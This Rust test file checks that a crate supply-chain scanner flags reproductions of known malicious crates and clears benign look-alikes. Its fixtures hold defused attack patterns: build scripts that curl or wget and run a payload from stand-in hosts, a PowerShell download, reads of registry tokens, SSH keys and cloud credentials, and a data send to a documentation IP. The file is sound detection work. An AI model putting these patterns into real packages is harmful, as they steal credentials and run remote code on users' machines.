//! Every attack pattern of the reference list, reproduced as a fixture
//! crate (the pattern only: no working payload, addresses under the
//! reserved `.invalid` domain and documentation IP ranges, nothing is ever
//! run), is judged high with the right codes; benign look-alikes are not.

mod common;

use cargofox::model::RiskLevel;
use common::Fixture;
use common::judged::{Case, POPULAR, assert_high, case, codes, fake_elf, fake_pe, lib, site};

#[test]
fn the_reference_attacks_are_judged_high() {
    let cases = vec![
        // 2022, rustdecimal: a maths crate that, under GitLab CI, downloads a file and runs it.
        case(Fixture::new("rustdecimal", "1.23.1", "description = \"Decimal number implementation\"").file(
            "src/lib.rs",
            lib("    if std::env::var(\"GITLAB_CI\").is_ok() {\n        let _ = std::process::Command::new(\"curl\").args([\"-o\", \"/tmp/x\", \"https://payload.invalid/x\"]).status();\n        let _ = std::process::Command::new(\"/tmp/x\").status();\n    }"),
        )),
        // 2023: a build script reporting the machine to a chat bot.
        case(Fixture::new("tokio-tls-helper", "0.1.0", "description = \"TLS helpers\"")
            .file("build.rs", "fn main() {\n    let os = std::env::consts::OS;\n    let _ = ureq::post(\"https://api.invalid/botTOKEN/sendMessage\").send_string(os);\n}\n")),
        // 2023, acceptxmr-rs: an affix squat shipping a Windows executable.
        case(Fixture::new("acceptxmr-rs", "0.1.0", "description = \"Accept XMR payments\"")
            .file("bin/helper.exe", fake_pe())),
        // 2024, liblzma-sys: binary test files that the build decodes and hands to a shell.
        case(Fixture::new("liblzma-like-sys", "0.3.2", "description = \"Raw bindings to liblzma\"\nlinks = \"lzma\"\nrepository = \"https://github.com/x/liblzma\"")
            .file("tests/files/bad-3-corrupt_lzma2.xz", fake_elf())
            .file("build.rs", "fn main() {\n    let data = include_bytes!(\"tests/files/bad-3-corrupt_lzma2.xz\");\n    let key = [0x4du8, 0x61, 0x73];\n    let mut out = data.to_vec();\n    for i in 0..out.len() { out[i] ^= key[i % 3]; }\n    let dir = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{dir}/x.o\"), &out).unwrap();\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status().unwrap();\n    cc::Build::new().file(\"src/lzma.c\").compile(\"lzma\");\n}\n")),
        // 2025, faster_log: a working logger that walks for key files and posts them, claiming the real crate's repository.
        case(Fixture::new("faster_log", "1.7.8", "description = \"A fast logger\"\nrepository = \"https://github.com/real/fast_log\"").file(
            "src/lib.rs",
            lib("    for e in std::fs::read_dir(\".\").unwrap() {\n        let _ = e;\n    }\n    let _ = reqwest::blocking::Client::new().post(\"https://collector.invalid/keys\");"),
        )),
        // 2025, evm-units: a version function that starts an OS-specific shell with a download.
        case(Fixture::new("evm-units", "0.1.1", "description = \"EVM unit conversions\"").file(
            "src/lib.rs",
            lib("    if cfg!(target_os = \"windows\") {\n        let _ = std::process::Command::new(\"powershell\").arg(\"-c\").arg(\"iwr https://payload.invalid/p\").spawn();\n    }"),
        )),
        // 2025, finch-rst and sha-rust: credential theft behind affix squats.
        case(Fixture::new("finch-rst", "0.1.0", "description = \"Finch tools\"").file(
            "src/lib.rs",
            lib("    let t = std::env::var(\"CARGO_REGISTRY_TOKEN\");\n    let _ = t;"),
        )),
        case(Fixture::new("sha-rust", "0.1.0", "description = \"SHA hashing\"").file(
            "src/lib.rs",
            lib("    let home = std::env::var(\"HOME\").unwrap();\n    let _ = std::fs::read(format!(\"{home}/.ssh/id_rsa\"));"),
        )),
        // 2026, polymarket-client-sdks and tracing-check: plural and affix squats stealing credentials.
        case(Fixture::new("polymarket-client-sdks", "0.1.0", "description = \"Polymarket client\"").file(
            "src/lib.rs",
            lib("    let _ = std::fs::read_to_string(\"/root/.config/solana/id.json\");"),
        )),
        case(Fixture::new("tracing-check", "0.1.0", "description = \"Checks for tracing\"").file(
            "src/lib.rs",
            lib("    let _ = std::fs::read_to_string(\"~/.aws/credentials\");"),
        )),
        // 2026, mysten-metrics: dependency confusion, a build script sending data out.
        case(Fixture::new("mysten-metrics", "0.7.0", "description = \"Metrics\"")
            .file("build.rs", "use std::io::Write;\nfn main() {\n    if let Ok(mut s) = std::net::TcpStream::connect(\"203.0.113.7:443\") {\n        let _ = s.write_all(b\"host\");\n    }\n}\n")),
        // 2026, proc-macro1: a days-old crate whose build script fetches and runs a program...
        Case {
            published: "2026-01-09T10:00:00Z",
            ..case(Fixture::new("proc-macro1", "1.0.95", "description = \"A substitute implementation of the compiler's proc_macro API\"")
                .file("build.rs", "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let p = format!(\"{out}/p\");\n    std::process::Command::new(\"curl\").args([\"-sLo\", &p, \"https://payload.invalid/p\"]).status().unwrap();\n    std::process::Command::new(&p).status().unwrap();\n}\n"))
        },
        // A hijacked account's patch release that adds a build script fetching a program.
        Case {
            previous: Some(("2.4.1", vec![])),
            previous_package: Some(Fixture::new("hijacked-patch", "2.4.1", "description = \"Colour names\"\nrepository = \"https://github.com/o/hp\"")),
            ..case(Fixture::new("hijacked-patch", "2.4.2", "description = \"Colour names\"\nrepository = \"https://github.com/o/hp\"")
                .file("build.rs", "fn main() {\n    let _ = std::process::Command::new(\"wget\").arg(\"https://payload.invalid/p\").status();\n}\n"))
        },
        // ...pulled into an established crate by a patch release.
        Case {
            deps: vec!["proc-macro1"],
            published: "2026-01-09T11:30:00Z",
            previous: Some(("0.3.9", vec![])),
            ..case(Fixture::new("arrayref", "0.3.10", "description = \"Macros to take array references of slices\"\nrepository = \"https://github.com/o/arrayref\""))
        },
    ];
    let site = site(cases);
    assert_high(
        &site,
        "rustdecimal",
        &["code-ci-detection", "code-process", "name-typosquat"],
    );
    assert_high(&site, "tokio-tls-helper", &["build-network", "build-url"]);
    assert_high(&site, "acceptxmr-rs", &["pkg-executable", "name-typosquat"]);
    assert_high(
        &site,
        "liblzma-like-sys",
        &[
            "pkg-executable",
            "build-process",
            "build-xor-decoding",
            "build-include-bytes",
        ],
    );
    assert_high(
        &site,
        "faster_log",
        &[
            "code-network-unexpected",
            "code-fs-walk",
            "code-url",
            "name-typosquat",
        ],
    );
    assert_high(&site, "evm-units", &["code-process", "code-url"]);
    assert_high(
        &site,
        "finch-rst",
        &["code-env-credentials", "name-typosquat"],
    );
    assert_high(&site, "sha-rust", &["code-secret-paths"]);
    assert_high(
        &site,
        "polymarket-client-sdks",
        &["code-secret-paths", "name-typosquat"],
    );
    assert_high(
        &site,
        "tracing-check",
        &["code-secret-paths", "name-typosquat"],
    );
    assert_high(
        &site,
        "mysten-metrics",
        &["build-network", "build-ip-address"],
    );
    assert_high(&site, "proc-macro1", &["build-process", "name-typosquat"]);
    assert_high(
        &site,
        "arrayref",
        &["release-young-dependency", "release-new-dependency"],
    );
    // The popular crates and their users stay clean.
    for p in POPULAR {
        assert!(
            site[*p].risk.level < RiskLevel::Medium,
            "{p}: {:?}",
            site[*p].risk
        );
    }
}

#[test]
fn benign_look_alikes_are_not_high() {
    let cases = vec![
        // A -sys crate whose build script compiles C and probes pkg-config.
        case(Fixture::new("libfoo-sys", "1.0.0", "description = \"Bindings to libfoo\"\nlinks = \"foo\"\nrepository = \"https://github.com/o/libfoo-sys\"").file(
            "build.rs",
            "fn main() {\n    if pkg_config::probe_library(\"foo\").is_ok() { return; }\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/config.h\"), \"#define X 1\").unwrap();\n    let st = std::process::Command::new(\"pkg-config\").arg(\"--version\").status();\n    let _ = st;\n    cc::Build::new().file(\"foo/foo.c\").compile(\"foo\");\n    println!(\"cargo:rerun-if-changed=foo/foo.c\");\n}\n",
        ).file("foo/foo.c", "int foo(void) { return 1; }\n")),
        // A build script that asks rustc its version.
        case(Fixture::new("rustc-probe", "1.0.0", "repository = \"https://github.com/o/probe\"").file(
            "build.rs",
            "fn main() {\n    let rustc = std::env::var(\"RUSTC\").unwrap();\n    let out = std::process::Command::new(rustc).arg(\"-vV\").output().unwrap();\n    let _ = out;\n}\n",
        )),
        // An HTTP client: sockets are its purpose.
        case(Fixture::new("plain-get", "1.0.0", "description = \"A small HTTP client\"\nkeywords = [\"http\"]\nrepository = \"https://github.com/o/thc\"").file(
            "src/lib.rs",
            "use std::io::Write;\npub fn get(host: &str) -> std::io::Result<()> {\n    let mut s = std::net::TcpStream::connect((host, 80))?;\n    s.write_all(b\"GET / HTTP/1.1\\r\\n\\r\\n\")\n}\n",
        )),
        // Ordinary unsafe FFI.
        case(Fixture::new("ffi-wrapper", "1.0.0", "description = \"Safe wrapper over a C library\"\nrepository = \"https://github.com/o/ffi\"").file(
            "src/lib.rs",
            "extern \"C\" {\n    fn strlen(s: *const i8) -> usize;\n}\n/// Length.\npub fn len(s: &std::ffi::CStr) -> usize {\n    unsafe { strlen(s.as_ptr()) }\n}\n",
        )),
        // Tests that start programs and read tokens run only for the crate's developers.
        case(Fixture::new("well-tested", "1.0.0", "repository = \"https://github.com/o/wt\"")
            .file("tests/cli.rs", "#[test]\nfn runs() {\n    let _ = std::env::var(\"GITHUB_TOKEN\");\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status().unwrap();\n}\n")
            .file("src/lib.rs", "pub fn f() {}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() { let _ = std::process::Command::new(\"curl\").arg(\"https://x.invalid\"); }\n}\n")),
    ];
    let site = site(cases);
    for name in [
        "libfoo-sys",
        "rustc-probe",
        "plain-get",
        "ffi-wrapper",
        "well-tested",
    ] {
        let r = &site[name];
        assert!(
            r.risk.level <= RiskLevel::Low,
            "{name}: {:#?}\n{:#?}",
            r.risk,
            r.findings
        );
    }
    assert!(
        codes(&site["ffi-wrapper"]).contains(&"code-ffi"),
        "facts are still reported"
    );
    assert!(codes(&site["ffi-wrapper"]).contains(&"code-unsafe"));
    assert!(codes(&site["libfoo-sys"]).contains(&"build-process"));
}
